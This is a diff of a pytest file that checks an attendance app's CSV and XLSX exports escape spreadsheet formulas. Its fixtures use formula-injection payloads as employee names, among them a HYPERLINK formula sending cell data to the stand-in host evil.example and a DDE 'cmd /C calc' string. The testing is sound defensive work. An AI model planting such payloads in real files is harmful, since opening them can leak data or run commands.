@@ -18,29 +18,38 @@ from .conftest import Clock, FakeNode
 from .trustkit import at, install, nip, person
 
 DAY = "2026-10-12"
-NAMES = ['=HYPERLINK("http://evil.example/?d="&A1,"Lihat")', "+SUM(1,2)",
-         "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\tTab", "\rCarriage"]
+NAMES = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Lihat")',
+    "+SUM(1,2)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\tTab",
+    "\rCarriage",
+]
 FORMULA_NIP = '=HYPERLINK("http://evil.example","1")'
 
 
 @pytest.fixture
 def day(app: Flask, client: FlaskClient, node: FakeNode, clock: Clock) -> None:
     people = [person(i, "Seksi Pemerintahan", None) for i in range(len(NAMES))]
-    people = [p.__class__(p.nip, name, "=1+1" if i == 0 else p.unit, p.role, p.pin_hash, None)
-              for i, (p, name) in enumerate(zip(people, NAMES, strict=True))]
+    people = [
+        p.__class__(p.nip, name, "=1+1" if i == 0 else p.unit, p.role, p.pin_hash, None)
+        for i, (p, name) in enumerate(zip(people, NAMES, strict=True))
+    ]
     clock.now = at(DAY, "07:00")
     install(app, people, clock.now)
     node.anchor(node.push(client).get_json()["receipt"])
     node.checkin(nip(0), ts=at(DAY, "07:10"))
-    node.checkin(FORMULA_NIP, ts=at(DAY, "07:11"))          # a node signing a lie
+    node.checkin(FORMULA_NIP, ts=at(DAY, "07:11"))  # a node signing a lie
     clock.now = at(DAY, "07:20")
     assert node.push(client, 1).status_code == 200
 
 
-def test_csv_cells_never_start_a_formula(client: FlaskClient, viewer_token: str,
-                                         day: None) -> None:
-    r = client.get(f"/api/v1/attendance?date={DAY}&format=csv",
-                   headers={"Authorization": f"Bearer {viewer_token}"})
+def test_csv_cells_never_start_a_formula(client: FlaskClient, viewer_token: str, day: None) -> None:
+    r = client.get(
+        f"/api/v1/attendance?date={DAY}&format=csv",
+        headers={"Authorization": f"Bearer {viewer_token}"},
+    )
     assert r.status_code == 200
     text = r.get_data(as_text=True)
     rows = list(csv.reader(io.StringIO(text, newline="")))
@@ -52,15 +61,19 @@ def test_csv_cells_never_start_a_formula(client: FlaskClient, viewer_token: str,
         assert "'" + name in by_name  # kept, readable, inert
     # The exact bytes of the first employee: NIP as text, name and unit escaped.
     line = next(line for line in text.split("\r\n") if line.startswith(f"'{nip(0)},"))
-    assert line.startswith(f"'{nip(0)},\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,"
-                           '""Lihat"")",\'=1+1,2026-10-12T07:10:00.000+08:00,kec-alalak,')
+    assert line.startswith(
+        f'\'{nip(0)},"\'=HYPERLINK(""http://evil.example/?d=""&A1,'
+        '""Lihat"")",\'=1+1,2026-10-12T07:10:00.000+08:00,kec-alalak,'
+    )
     nips = [row[0] for row in rows[1:]]
     assert f"'{nip(0)}" in nips and "'" + FORMULA_NIP in nips
 
 
 def test_xlsx_keeps_text_as_text(client: FlaskClient, viewer_token: str, day: None) -> None:
-    r = client.get(f"/api/v1/attendance?date={DAY}&format=xlsx",
-                   headers={"Authorization": f"Bearer {viewer_token}"})
+    r = client.get(
+        f"/api/v1/attendance?date={DAY}&format=xlsx",
+        headers={"Authorization": f"Bearer {viewer_token}"},
+    )
     assert r.status_code == 200 and (r.mimetype or "").endswith("spreadsheetml.sheet")
     sheet = load_workbook(io.BytesIO(r.get_data())).worksheets[0]
     header = [c.value for c in sheet[1]]
@@ -75,12 +88,21 @@ def test_xlsx_keeps_text_as_text(client: FlaskClient, viewer_token: str, day: No
             assert cell.data_type != "f", cell.value
 
 
-@pytest.mark.parametrize(("value", "expected"), [
-    ("=HYPERLINK(\"x\")", "'=HYPERLINK(\"x\")"), ("+SUM(1)", "'+SUM(1)"),
-    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"), ("@SUM(1)", "'@SUM(1)"),
-    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Siti Rahmah", "Siti Rahmah"), (None, ""), (15, "15"),
-    ("2026-10-12T07:10:00.000+08:00", "2026-10-12T07:10:00.000+08:00"),
-])
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ('=HYPERLINK("x")', '\'=HYPERLINK("x")'),
+        ("+SUM(1)", "'+SUM(1)"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(1)", "'@SUM(1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("Siti Rahmah", "Siti Rahmah"),
+        (None, ""),
+        (15, "15"),
+        ("2026-10-12T07:10:00.000+08:00", "2026-10-12T07:10:00.000+08:00"),
+    ],
+)
 def test_csv_cell(value: object, expected: str) -> None:
     assert csv_cell(value) == expected
 
